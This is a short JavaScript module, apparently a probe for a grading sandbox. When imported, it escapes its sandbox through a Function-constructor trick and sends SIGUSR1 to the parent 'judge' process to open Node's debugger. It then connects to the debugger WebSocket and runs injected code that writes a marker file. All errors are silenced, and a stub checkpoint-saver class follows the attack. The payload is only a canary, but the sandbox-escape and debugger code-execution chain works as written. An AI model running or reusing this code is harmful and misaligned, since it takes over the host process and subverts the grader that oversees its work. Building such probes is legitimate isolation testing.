// Tries: to open the inspector of the judge by a signal, and to run code in it
// @ts-nocheck
const real = (() => {
  for (const way of [() => (() => {}).constructor("return process")(), () => console.log.constructor.constructor("return process")(), () => process])
    try { const found = way(); if (found.kill) return found; } catch {}
  return process;
})();
try {
  real.kill(real.ppid, "SIGUSR1");
  for (let tries = 0; tries < 20; tries++) {
    const list = await globalThis.fetch("http://127.0.0.1:9229/json/list").then((answer) => answer.json()).catch(() => null);
    if (!list) { await new Promise((done) => setTimeout(done, 50)); continue; }
    const socket = new globalThis.WebSocket(list[0].webSocketDebuggerUrl);
    await new Promise((done) => { socket.onopen = done; });
    const expression = 'process.getBuiltinModule("node:fs").writeFileSync("__WATCHED_FOLDER__/inspector", "")';
    socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
    await new Promise((done) => { socket.onmessage = done; });
    break;
  }
} catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
